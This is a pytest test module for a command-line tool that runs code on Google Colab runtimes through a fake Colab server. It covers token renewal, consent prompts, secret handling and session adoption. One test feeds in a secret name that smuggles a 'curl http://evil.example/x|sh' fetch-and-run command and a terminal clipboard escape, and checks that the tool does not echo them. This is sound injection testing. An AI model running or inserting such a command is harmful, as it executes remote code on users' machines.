"""Runs on a Colab runtime that is held: what is asked of whom, stale tokens, moved proxies, and what the code asks."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from lecoder_cgpu.testing.colab import FakeColab
from tests.contract.test_documents import validate
from tests.support.cli import Cli
from tests.support.colab import logged_in
from tests.support.pty import Pty
from tests.support.wait import wait_until


@pytest.fixture(scope="module")
def held(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Cli, FakeColab]]:
    """A command line with a warm session on a T4, shared by the tests of this module."""
    with FakeColab(tmp_path_factory.mktemp("colab")) as colab:
        colab.switches.idle_limit = 1e9
        command = logged_in(Cli(tmp_path_factory.mktemp("home")), colab)
        assert command("run", "-m", "kernel", "x = 41").code == 0
        assert command("run", "true").code == 0
        yield command, colab


@pytest.fixture
def warm(held: tuple[Cli, FakeColab]) -> Iterator[tuple[Cli, FakeColab]]:
    """The same, with the requests counted from here and every switch put back."""
    command, colab = held
    before = vars(colab.switches).copy()
    colab.requests.clear()
    yield command, colab
    vars(colab.switches).update(before)
    left = colab.world.faults.left()
    colab.mend()
    assert not left


def control_calls(colab: FakeColab) -> list[str]:
    """What was asked of Google, the runtime's proxy aside."""
    return [request.line for request in colab.requests if request.role != "proxy"]


def lines(colab: FakeColab) -> list[str]:
    return [request.line for request in colab.requests]


def test_a_warm_run_asks_colab_nothing(warm: tuple[Cli, FakeColab]) -> None:
    """One request, to the runtime: the handshake. In both modes."""
    command, colab = warm
    assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
    assert command("run", "echo hi").out == "hi\n"
    opened = [line.rpartition("/")[2] for line in lines(colab)]
    is_kept = os.environ.get("LECODER_CGPU_TEST_FORKS") == "warm"  # it may be none then
    assert opened in (["channels"] * 2, *([["channels"]] if is_kept else []))


def test_code_runs_in_content(warm: tuple[Cli, FakeColab]) -> None:
    """The kernel and processes find themselves in the VM's `content`."""
    command, _ = warm
    assert command("run", "-m", "kernel", "import os; print(os.path.basename(os.getcwd()))").out == "content\n"
    assert command("run", "basename $PWD").out == "content\n"


def test_the_terminal_is_taken(warm: tuple[Cli, FakeColab], pty_of: Callable[..., Pty]) -> None:
    """Colab has one shell: whoever loses it to another connection is told, and does not take it back."""
    command, _ = warm
    first = pty_of(command, "connect")
    first.wait(lambda: b"connected to" in first.seen)
    first.type(b"echo $((6*7))\r")
    first.wait(lambda: b"\r42" in first.seen)
    second = pty_of(command, "connect")
    assert first.end() == 0
    assert b"another connection took this terminal, and the shell goes on there" in first.seen
    second.wait(lambda: b"\r42" in second.seen)
    second.type(b"exit\r")
    assert second.end() == 0
    assert b"another connection" not in second.seen


def test_status_is_four_requests(warm: tuple[Cli, FakeColab]) -> None:
    """Login, units, runtimes and GPUs in four requests, none of them twice."""
    command, colab = warm
    document = command("status", "--json").json
    assert document["authenticated"] is True
    assert document["account"]["id"] == colab.account.email
    assert document["tier"] == "free"
    assert document["units"]["perHour"] > 0
    assert document["units"]["freeUnits"] > 0
    assert document["eligibleGpus"] == ["T4"]
    (runtime,) = document["runtimes"]
    assert runtime["connected"] is True
    assert runtime["origin"] == "ours"
    assert runtime["gpu"]["memory"]["free"].endswith(" GB")
    assert runtime["unitsPerHour"] == document["units"]["perHour"]
    assert len(lines(colab)) <= 4
    assert len(set(lines(colab))) == len(lines(colab))


@pytest.mark.parametrize("status", [404, 401, 403])
def test_a_stale_token_is_renewed_once(warm: tuple[Cli, FakeColab], status: int) -> None:
    """Whatever a stale token is refused with: one listing, one new handshake, and the variables are there (F5)."""
    command, colab = warm
    colab.switches.stale_status = status
    colab.expire_proxy_tokens()
    result = command("run", "-m", "kernel", "print(x + 1)")
    assert (result.code, result.out) == (0, "42\n")
    assert result.err.startswith("still running and using units")
    assert result.err.endswith("lecoder-cgpu sessions close colab\n")
    assert control_calls(colab) == ["GET /tun/m/assignments"]
    colab.requests.clear()
    assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
    assert control_calls(colab) == []


def test_a_stale_token_on_rest(warm: tuple[Cli, FakeColab]) -> None:
    """The same for requests that are no handshake (F4)."""
    command, colab = warm
    colab.expire_proxy_tokens()
    assert command("kernel", "status", "--json").json["kernel"]["state"] in ("idle", "busy")
    assert colab.count("GET /tun/m/assignments") == 1


def test_what_really_is_not_there_is_not_taken_for_a_stale_token(warm: tuple[Cli, FakeColab]) -> None:
    """A kernel that was shut down answers 404 too: one listing at most, and a new kernel is started (F7, F42)."""
    command, colab = warm
    _delete_kernel(command, command("kernel", "status", "--json").json["kernel"]["id"])
    colab.requests.clear()
    again = command("run", "-m", "kernel", "print('x' in dir())")
    assert again.out == "False\n"
    assert "earlier variables are lost" in again.err
    assert colab.count("GET /tun/m/assignments") == 1
    assert command("run", "-m", "kernel", "x = 41").code == 0


def _delete_kernel(command: Cli, kernel: str) -> None:
    """Shut a kernel down behind the tool's back."""
    import urllib.request

    (record,) = json.loads((command.state / "sessions.json").read_text())
    proxy = record["runtime"]["proxy"]
    request = urllib.request.Request(
        proxy["url"].rstrip("/") + f"/api/kernels/{kernel}",
        method="DELETE",
        headers={"X-Colab-Runtime-Proxy-Token": proxy["token"]},
    )
    with urllib.request.urlopen(request) as answer:
        assert answer.status == 204


def test_a_proxy_that_moved(warm: tuple[Cli, FakeColab]) -> None:
    """The listing's address is used from then on, and the old one never again (F28)."""
    command, colab = warm
    colab.move()
    assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
    assert colab.count("GET /tun/m/assignments") == 1
    colab.requests.clear()
    assert command("run", "echo hi").out == "hi\n"
    assert control_calls(colab) == []


def test_a_token_that_ends_in_the_middle_of_a_run(warm: tuple[Cli, FakeColab], tmp_path: Path) -> None:
    """The socket goes with it; the run is found again under a new token, and no output is lost (F5, F9, F28)."""
    command, colab = warm
    begun, go = tmp_path / "begun", tmp_path / "go"
    code = (
        f"import os, time\nopen({str(begun)!r}, 'w').close()\nfor i in range(2000): print(i)\n"
        f"while not os.path.exists({str(go)!r}): time.sleep(0.1)\n"
        "for i in range(2000, 4000): print(i)"
    )
    running = command.start("run", "-m", "kernel", "--json", code)
    wait_until(begun.exists)
    time.sleep(1)
    colab.move()
    colab.expire_proxy_tokens()
    wait_until(lambda: colab.count("GET /tun/m/assignments") >= 1)
    go.touch()
    out, err = running.communicate(timeout=60)
    document = json.loads(out)
    assert document["errorCode"] == 0, (document, err)
    assert document["stdout"] == "".join(f"{i}\n" for i in range(4000))
    assert document["outputComplete"] is True


def test_a_process_whose_token_ends(warm: tuple[Cli, FakeColab], tmp_path: Path) -> None:
    """The same for a process."""
    command, colab = warm
    go = tmp_path / "go"
    running = command.start("run", f"seq 2000; while [ ! -e {go} ]; do sleep 0.1; done; seq 2001 4000; exit 3")
    wait_until(lambda: any(line.endswith("/channels") for line in lines(colab)))
    time.sleep(1)
    colab.expire_proxy_tokens()
    wait_until(lambda: colab.count("GET /tun/m/assignments") >= 1)
    go.touch()
    out, err = running.communicate(timeout=60)
    assert out.decode() == "".join(f"{i}\n" for i in range(1, 4001)), err
    assert running.returncode == 3


def test_a_session_that_is_older_than_its_tokens(warm: tuple[Cli, FakeColab]) -> None:
    """With tokens that live for a minute, an hour of use costs a listing for each use that meets a stale one (F27)."""
    command, colab = warm
    colab.switches.proxy_ttl = 60.0
    colab.expire_proxy_tokens()
    for _ in range(4):
        assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
        assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
        colab.advance(900)
    assert colab.count("GET /tun/m/assignments") == 4


@pytest.mark.parametrize("said", ["3.14s", "-1s", "", None, "60"])
def test_lifetimes_in_every_spelling(warm: tuple[Cli, FakeColab], said: Any) -> None:
    """What a token's lifetime is said to be decides nothing (F27); nor does what stands in the token (F39)."""
    command, colab = warm
    colab.expire_proxy_tokens()
    colab.switches.proxy_ttl_said = said if said is not None else {"no": "number"}
    colab.switches.proxy_exp_skew = -7200.0
    assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
    colab.requests.clear()
    assert command("run", "-m", "kernel", "print(x + 1)").out == "42\n"
    assert control_calls(colab) == []


def test_many_at_once_renew_once(warm: tuple[Cli, FakeColab]) -> None:
    """Eight commands meet the same stale token: one asks the listing, and the record stays whole (F40)."""
    command, colab = warm
    colab.expire_proxy_tokens()
    running = [command.start("run", f"echo {number}") for number in range(8)]
    outputs = [process.communicate(timeout=100) for process in running]
    assert [out.decode() for out, _ in outputs] == [f"{number}\n" for number in range(8)], outputs
    assert colab.count("GET /tun/m/assignments") == 1


def test_the_access_token_ends(warm: tuple[Cli, FakeColab]) -> None:
    """A 401 of Colab's: refreshed once, asked once more (F1)."""
    command, colab = warm
    colab.expire_access_tokens()
    usage = command("usage", "--json").json
    assert (usage["units"]["runtimes"], usage["tier"]) == (1, "free")
    assert control_calls(colab).count("POST /token") == 1
    assert [request.status for request in colab.requests if request.path == "/tun/m/ccu-info"] == [401, 200]


def test_a_login_that_colab_never_accepts(warm: tuple[Cli, FakeColab]) -> None:
    """401 for ever: two tries, then 2001 and what to type (F2)."""
    command, colab = warm
    fault = colab.fail("/tun/m/ccu-info", times=None, status=401)
    result = command("usage", "--json")
    assert (result.code, result.json["errorCode"]) == (77, 2001)
    assert "auth login" in result.json["error"]["suggestion"]
    assert fault.hits == 2


# --- what the code asks ---


def test_drive_needs_consent_and_waits_for_nobody(warm: tuple[Cli, FakeColab]) -> None:
    """First the address where to agree, then, after the user has agreed, the mounted Drive (F32)."""
    command, colab = warm
    mount = "from google.colab import drive; drive.mount('/content/drive')"
    begun = time.monotonic()
    first = command("run", "-m", "kernel", "--json", mount)
    assert time.monotonic() - begun < 100  # the kernel itself would wait for two minutes
    assert first.code == 1
    assert first.json["error"]["name"] == "MessageError"
    assert "colab consent drive" in first.json["error"]["message"]
    assert "accounts" in first.json["notice"] or "http" in first.json["notice"]
    asked = command("colab", "consent", "drive", "--json").json
    assert asked["granted"] is False
    assert asked["url"] in first.json["notice"] or asked["url"].startswith("http")
    refused = command("colab", "mount", "--json")
    assert (refused.code, asked["url"] in refused.json["error"]["suggestion"]) == (77, True)
    colab.account.consented.add("dfs_ephemeral")
    assert command("colab", "consent", "drive", "--json").json["granted"] is True
    mounted = command("colab", "mount", "other", "--readonly", "--json").json
    validate(mounted, "colab-mount")
    assert (mounted["path"], mounted["files"]) == ("/content/other", "/content/other/MyDrive")
    assert command("run", "ls", "other").out == "MyDrive\n"
    assert command("colab", "mount", "a b").code == 2
    assert command("run", "-m", "kernel", mount).out == "Mounted at /content/drive\n"


def answered(asking: Pty, answer: bytes) -> int:
    """Answer the question of a command on a terminal; its exit status."""
    asking.wait(lambda: b"Hand them over? [y/N]" in asking.seen)
    asking.type(answer + b"\n")
    return asking.end()


def test_the_account_is_lent_once_the_user_has_agreed(warm: tuple[Cli, FakeColab], pty_of: Callable[..., Pty]) -> None:
    """That the account has agreed before is not enough: code may come from anybody. One answer in each session is, or a
    setting."""
    command, colab = warm
    colab.account.consented.add("auth_user_ephemeral")
    code = "from google.colab import auth; auth.authenticate_user(); print('ok')"
    handed = "this runtime was handed credentials for your Google account"
    refused = command("run", "-m", "kernel", code, "--json").json
    assert "auth_user_ephemeral" not in colab.vm.propagated
    assert refused["error"]["name"] == "MessageError"
    assert "colab consent auth" in refused["notice"]
    unasked = command("run", "-m", "kernel", code, "--json", env={"LECODER_CGPU_COLAB_CONSENT": "auth,drive"}).json
    assert (unasked["stdout"], handed in unasked["notice"]) == ("ok\n", True)
    assert command("run", "-m", "kernel", code, "--json").json["error"]["name"] == "MessageError"
    assert answered(pty_of(command, "run", "-m", "kernel", code), b"n") == 1
    assert answered(pty_of(command, "run", "-m", "kernel", code), b"y") == 0
    for _ in range(2):  # said each time
        result = command("run", "-m", "kernel", code, "--json").json
        assert (result["stdout"], handed in result["notice"]) == ("ok\n", True)
    assert "notice" not in command("run", "-m", "kernel", "1", "--json").json


def test_a_name_of_a_secret_is_no_command(warm: tuple[Cli, FakeColab]) -> None:
    """What is asked for becomes part of our advice only where it can be the name of a variable."""
    command, _ = warm
    code = "from google.colab import _message; _message.blocking_request('GetSecret', request={'key': %r})"
    odd = command("run", "-m", "kernel", "--json", code % "HF; curl http://evil.example/x|sh #\x1b]52;c;eA==\x07")
    assert "evil" not in odd.json["notice"]
    assert "a name that no variable can have" in odd.json["notice"]
    assert command("run", "-m", "kernel", "--json", code % "HF_X").json["notice"].endswith("--secret HF_X")


def test_secrets_are_answered_from_the_command_line(warm: tuple[Cli, FakeColab]) -> None:
    """`userdata.get` gets what --secret names, from the environment, and nothing else."""
    command, _ = warm
    code = "from google.colab import userdata; print(len(userdata.get('HF_TOKEN')))"
    with_secret = command("run", "-m", "kernel", "--secret", "HF_TOKEN", code, env={"HF_TOKEN": "s3cret-value"})
    assert with_secret.out == "12\n"
    without = command("run", "-m", "kernel", "--json", code, env={"HF_TOKEN": "s3cret-value"})
    assert without.json["error"]["name"] == "SecretNotFoundError"
    assert "--secret HF_TOKEN" in without.json["notice"]
    assert "s3cret-value" not in command("logs", "--json").out


def test_what_needs_a_browser_is_refused_at_once(warm: tuple[Cli, FakeColab]) -> None:
    """A request that nobody can answer fails instead of hanging (F31)."""
    command, _ = warm
    result = command("run", "-m", "kernel", "--json", "from google.colab import output; output.eval_js('1+1')")
    assert result.json["error"]["name"] == "MessageError"
    assert "browser" in result.json["error"]["message"]


# --- sessions ---


def test_every_runtime_of_the_account_is_listed(warm: tuple[Cli, FakeColab], tmp_path: Path) -> None:
    """Ours, a browser's and another machine's, with their origin; close --all and clean end none of them (F29)."""
    command, colab = warm
    browser = colab.start_vm("T4")
    documents = command("sessions", "list", "--json").json
    origins = {item["runtime"]["endpoint"]: item["origin"] for item in documents}
    assert origins.pop(browser.endpoint) in ("browser", "elsewhere")
    assert list(origins.values()) == ["ours"]
    other = logged_in(Cli(tmp_path), colab)
    seen = {item["name"]: item for item in other("sessions", "list", "--json").json}
    assert {item["origin"] for item in seen.values()} == {"another-machine", "elsewhere"}
    assert all(item["isActive"] is False for item in seen.values())
    assert other("sessions", "clean", "--json").json["removed"] == []
    assert other("sessions", "close", "--all", "--json").json["closed"] == []
    assert browser.endpoint in colab.vms
    status = other("status", "--json").json
    assert [item["origin"] for item in status["runtimes"]] == ["elsewhere", "elsewhere"]
    named = other("sessions", "close", browser.endpoint, "--json")
    assert named.json["closed"][0]["released"] == "runtime"
    assert browser.endpoint not in colab.vms


def test_a_runtime_of_another_machine_is_adopted(warm: tuple[Cli, FakeColab], tmp_path: Path) -> None:
    """Its address comes from the listing, its kernels are there, and `clean` leaves it alone."""
    command, colab = warm
    job = command("run", "--detach", "echo mine").out.strip()
    other = logged_in(Cli(tmp_path), colab)
    unheld = other("job", "list", "--all-sessions", "--json")
    assert f"sessions adopt {colab.vm.endpoint}" in unheld.err
    found = [(item["endpoint"], item["account"]) for item in unheld.json["unasked"]]
    assert found == [(colab.vm.endpoint, "ada@example.com")]
    adopted = other("sessions", "adopt", colab.vm.endpoint, "--name", "colab", "--json")
    assert adopted.json["session"]["status"] == "active", adopted
    validate(adopted.json, "sessions-adopt")
    assert [item["id"] for item in adopted.json["jobs"]][:1] == [job], "its jobs are told"
    listed = other("job", "list", "--all-sessions", "--json").json["jobs"]
    assert (job, "colab", "ada@example.com") in [(item["id"], item["session"], item["account"]) for item in listed]
    assert other("run", "-m", "kernel", "print(x + 1)").out == "42\n"  # the kernel is found by the session's name
    assert other("sessions", "adopt", colab.vm.endpoint, "--name", "again", "--json").json["errorCode"] == 2006
    assert other("sessions", "adopt", "gpu-t4-nothing", "--name", "x", "--json").json["errorCode"] == 2005
    assert other("sessions", "clean", "--json").json["removed"] == []
    assert colab.vm.endpoint in colab.vms


def test_renaming_and_switching_by_endpoint(warm: tuple[Cli, FakeColab]) -> None:
    """A name can be changed; the kernel stays. The endpoint names the session too."""
    command, colab = warm
    assert command("sessions", "rename", "colab", "train", "--json").json["session"]["name"] == "train"
    assert command("sessions", "switch", colab.vm.endpoint, "--json").code == 0
    assert command("-s", "train", "run", "-m", "kernel", "print(x + 1)").out == "42\n"
    assert command("sessions", "rename", "train", "a b", "--json").json["errorCode"] == 2006
    assert command("sessions", "rename", "train", "colab").code == 0


def test_resources_before_there_is_a_helper(colab_cli: Cli, colab: FakeColab) -> None:
    """GPUs, memory and disk come from the runtime's own route then; what that leaves out is no error (F43)."""
    colab_cli("sessions", "ensure", "fresh", "--gpu", "T4")
    colab.requests.clear()
    (runtime,) = colab_cli("status", "--json").json["runtimes"]
    assert runtime["gpu"]["memory"]["free"].endswith(" GB")
    assert runtime["host"]["memory"]["totalBytes"] > 0
    assert colab.count("GET /api/colab/resources") == 1
    assert len(lines(colab)) <= 5
    colab.fail("GET /api/colab/resources", raw=lambda body: b")]}'\r\n{}")
    (runtime,) = colab_cli("status", "--json").json["runtimes"]
    assert runtime["connected"] is True
    assert runtime["gpus"] == []
